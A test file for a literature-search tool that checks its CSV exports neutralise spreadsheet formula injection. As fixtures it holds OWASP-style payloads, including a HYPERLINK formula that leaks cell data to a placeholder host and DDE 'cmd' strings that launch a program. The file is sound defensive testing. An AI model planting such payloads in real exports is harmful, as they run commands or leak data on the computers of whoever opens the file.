"""Formula injection (issue 17.1): no CSV litsearch writes holds a cell a spreadsheet runs.

Titles come from third-party exports, notes and database names from people; every CSV
output is checked on a real review holding such text, and the neutralised export must
import back to the text as stored.
"""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from litsearch.cli.report import _explain_text
from litsearch.dedup.engine import run_dedup
from litsearch.dedup.report import write_report
from litsearch.importers.pipeline import import_file
from litsearch.outfiles import (
    FORMULA_TRIGGERS,
    csv_writer,
    dict_writer,
    neutralise,
    unneutralise,
)
from litsearch.report.explain import explain
from litsearch.report.export import export_records
from litsearch.report.prisma import compute_flow
from litsearch.report.prisma_csv import to_csv
from litsearch.screening.audit import export_decisions
from litsearch.screening.decisions import record_decision
from litsearch.store import Store

PACKAGE = Path(__file__).resolve().parents[2] / "litsearch"

#: Payloads from OWASP's CSV injection page and the issue.
PAYLOADS = ('=HYPERLINK("http://example.invalid/?x="&A1,"click")', "+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "=1+1")

#: Text that starts like a formula, in any of the ways OWASP lists.
formula_text = st.builds(
    lambda trigger, body: trigger + body,
    st.sampled_from(FORMULA_TRIGGERS) | st.sampled_from(("'=", "''+")),
    st.text(st.characters(codec="utf-8", exclude_categories=("Cs", "Cc")), max_size=30))


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _assert_inert(text: str, where: str) -> None:
    for cell in _cells(text):
        assert cell[:1] not in FORMULA_TRIGGERS, (where, cell)


@given(st.lists(st.text() | formula_text | st.integers() | st.floats(allow_nan=False),
                max_size=6), st.booleans())
def test_writers_neutralise_every_cell_and_the_quote_comes_off_again(row, as_dict) -> None:
    buf = io.StringIO()
    if as_dict:
        names = [f"c{i}" for i in range(len(row))]
        dict_writer(buf, names).writerow(dict(zip(names, row, strict=True)))
    else:
        csv_writer(buf).writerow(row)
    cells = next(csv.reader(io.StringIO(buf.getvalue())), [])
    assert len(cells) == len(row) or row == [""] * len(row)
    for cell, value in zip(cells, row, strict=False):
        if isinstance(value, str):  # a number (-1) is a number to a spreadsheet too
            assert cell[:1] not in FORMULA_TRIGGERS
            assert unneutralise(cell) == value


@given(st.text() | formula_text)
def test_neutralise_round_trips(value: str) -> None:
    assert unneutralise(neutralise(value)) == value
    assert neutralise(value)[:1] not in FORMULA_TRIGGERS


def test_raw_writes_cells_unchanged() -> None:
    buf = io.StringIO()
    csv_writer(buf, raw=True).writerow(PAYLOADS)
    assert next(csv.reader(io.StringIO(buf.getvalue()))) == list(PAYLOADS)


def test_a_quote_before_ordinary_text_is_text() -> None:
    assert unneutralise("'t Hooft") == "'t Hooft" and neutralise("'t Hooft") == "'t Hooft"
    assert neutralise(-3) == -3 and neutralise(2.5) == 2.5


def _ris(titles: list[str], prefix: str, own: bool = False) -> str:
    out = []
    for i, title in enumerate(titles):
        # litsearch's own RIS (DP litsearch) is read as written: a title "NA" stays.
        out.append(f"TY  - JOUR\nTI  - {title}\nAU  - Smith, John\nPY  - 2020\n"
                   f"T2  - Journal of Tests\nDO  - 10.1234/{prefix}{i}\n"
                   f"{'DP  - litsearch' + chr(10) if own else ''}ER  - \n")
    return "\n".join(out)


def _review(tmp: Path, titles: list[str], note: str, database: str,
            own: bool = False) -> Store:
    store = Store(":memory:")
    for n, db in enumerate(("embase", database)):
        path = tmp / f"export{n}.ris"
        path.write_text(_ris(titles, "x", own), encoding="utf-8")
        import_file(store, path, db)
    run_dedup(store)
    ids = [r[0] for r in store.execute("SELECT id FROM records ORDER BY id")]
    for rid in ids[:2]:
        record_decision(store, rid, "title-abstract", "alice", "exclude", reason=note,
                        note=note)
    return store


def _outputs(store: Store, tmp: Path) -> dict[str, str]:
    """Every CSV litsearch writes from a review, by name."""
    records = io.StringIO()
    export_records(store, "csv", records)
    decisions = io.StringIO()
    export_decisions(store, "csv", decisions)
    report = write_report(store, tmp / "dedup-report.csv").read_text(encoding="utf-8")
    flow = compute_flow(store, ["alice"])
    explained = _explain_text(explain(store, flow, "duplicates"), "csv")
    by_db = _explain_text(explain(store, flow, "database_specific_results"), "csv")
    return {"export": records.getvalue(), "export decisions": decisions.getvalue(),
            "dedup-report.csv": report, "prisma csv": to_csv(flow),
            "prisma --explain": explained, "prisma --explain by database": by_db}


@settings(max_examples=15, deadline=None,
          suppress_health_check=[HealthCheck.function_scoped_fixture])
# A title with a letter or digit: a lone "-" is a placeholder for "no title" to every reader.
@given(titles=st.lists(formula_text.filter(lambda t: any(c.isalnum() for c in t)
                                           and "\n" not in t and "\r" not in t.strip()),
                       min_size=1, max_size=3),
       note=formula_text.filter(lambda t: t.strip()),
       database=st.sampled_from(PAYLOADS))
def test_every_csv_output_is_inert(tmp_path_factory, titles, note, database) -> None:
    tmp = tmp_path_factory.mktemp("review")
    with _review(tmp, titles, note, database) as store:
        stored = [r[0] for r in store.execute("SELECT title FROM records ORDER BY id")]
        for name, text in _outputs(store, tmp).items():
            _assert_inert(text, name)
        # The neutralised export imports back to the titles as stored.
        path = tmp / "records.csv"
        export_records(store, "csv", path)
        with Store(":memory:") as again:
            import_file(again, path, "litsearch")
            back = [r[0] for r in again.execute("SELECT title FROM records ORDER BY id")]
        assert back == stored


def test_own_export_keeps_a_title_that_reads_like_a_placeholder(tmp_path: Path) -> None:
    """Hypothesis found it: a title "\tNONE" came back empty from litsearch's own CSV,
    which read "NONE" as a vendor's placeholder. Another tool's CSV still reads it so."""
    titles = ["\tNONE", "NA", "n/a"]
    with _review(tmp_path, titles, "note", "scopus", own=True) as store:
        stored = [r[0] for r in store.execute("SELECT title FROM records ORDER BY id")]
        path = tmp_path / "records.csv"
        export_records(store, "csv", path)
        with Store(":memory:") as again:
            import_file(again, path, "litsearch")
            back = [r[0] for r in again.execute("SELECT title FROM records ORDER BY id")]
    assert back == stored and "NA" in back
    other = tmp_path / "other.csv"
    other.write_text("Title,Authors,Year\nNA,\"Smith, J\",2020\n", encoding="utf-8")
    with Store(":memory:") as third:
        import_file(third, other, "scopus")
        assert [r[0] for r in third.execute("SELECT title FROM records")] == [None]


def test_the_payloads_of_the_issue(tmp_path: Path) -> None:
    """Before the fix these cells were written as they came, in every one of the files."""
    with _review(tmp_path, list(PAYLOADS), "\t=cmd|' /C calc'!A0", "=HYPERLINK(1)") as store:
        outputs = _outputs(store, tmp_path)
        for name, text in outputs.items():
            _assert_inert(text, name)
        assert "'=HYPERLINK(" in outputs["export"] and "'+cmd|" in outputs["dedup-report.csv"]
        assert "'\t=cmd" in outputs["export decisions"]
        raw = io.StringIO()
        export_records(store, "csv", raw, raw=True)
        assert any(cell.startswith("=HYPERLINK(") for cell in _cells(raw.getvalue()))


def test_every_csv_writer_in_the_package_is_the_neutralising_one() -> None:
    """A new CSV writer cannot skip neutralisation: csv.writer appears in outfiles.py only."""
    pattern = re.compile(r"\bcsv\.(writer|DictWriter)\(|\.to_csv\(|openpyxl\.Workbook\(|"
                         r"xlsxwriter")
    found = [f"{path.relative_to(PACKAGE)}:{n}"
             for path in PACKAGE.rglob("*.py") if path.name != "outfiles.py"
             for n, line in enumerate(path.read_text(encoding="utf-8").splitlines(), 1)
             if pattern.search(line)]
    assert found == []


def test_cli_raw_option(project, cli, tmp_path: Path) -> None:
    path = tmp_path / "hostile.ris"
    path.write_text(_ris(["=1+1 and more"], "y"), encoding="utf-8")
    assert cli("import", str(path), "--db", "embase", "--review", str(project.root))[0] == 0
    for extra, expected in (((), "'=1+1 and more"), (("--raw",), "=1+1 and more")):
        code, out, err = cli("export", "-f", "csv", *extra, "--review", str(project.root))
        assert code == 0, err
        assert next(csv.DictReader(io.StringIO(out)))["title"] == expected


def test_exported_decisions_import_back_with_notes_as_typed(project, tmp_path: Path) -> None:
    """`export decisions` -> `screen import-decisions` keeps notes exactly (no quote added)."""
    from litsearch.screening.criteria import load_criteria
    from litsearch.screening.imports import import_decisions

    path = tmp_path / "hostile.ris"
    path.write_text(_ris(["=1+1 and more", "@SUM(1+1)", "'t Hooft's law", "+ and -"], "z"),
                    encoding="utf-8")
    import_file(project.store, path, "embase")
    run_dedup(project.store)
    notes = ['=HYPERLINK("http://example.invalid","x")', "-0.5 see table 2",
             "'=typed with a quote", "+1, agrees with alice"]
    ids = [r[0] for r in project.store.execute("SELECT id FROM records ORDER BY id")]
    for rid, note in zip(ids, notes, strict=True):
        record_decision(project.store, rid, "title-abstract", "alice", "include", note=note)
    out = tmp_path / "decisions.csv"
    export_decisions(project.store, "csv", out)
    text = out.read_text(encoding="utf-8").replace(",alice,", ",bob,")
    _assert_inert(text, "export decisions")
    out.write_text(text, encoding="utf-8")
    import_decisions(project.store, load_criteria(project.criteria_path), out,
                     project.reviewers)
    back = [r[0] for r in project.store.execute(
        "SELECT note FROM decisions WHERE reviewer = 'bob' ORDER BY id")]
    assert back == notes


def test_a_quote_in_another_tools_csv_is_text(tmp_path: Path) -> None:
    """Only litsearch's own CSVs (with a litsearch_record_id column) had their quotes put
    there by neutralise; a vendor's title "'-omics' approaches" lost its opening quote."""
    titles = ["'-omics' approaches to depression", "'+1' culture in online forums",
              "'@' mentions as data"]
    path = tmp_path / "vendor.csv"
    with path.open("w", encoding="utf-8", newline="") as handle:
        writer = csv_writer(handle, raw=True)
        writer.writerow(["Title", "Authors", "Year", "DOI"])
        for i, title in enumerate(titles):
            writer.writerow([title, "Smith, J", "2020", f"10.1234/v{i}"])
    with Store(":memory:") as store:
        import_file(store, path, "embase")
        stored = [r[0] for r in store.execute("SELECT title FROM records ORDER BY id")]
    assert stored == titles
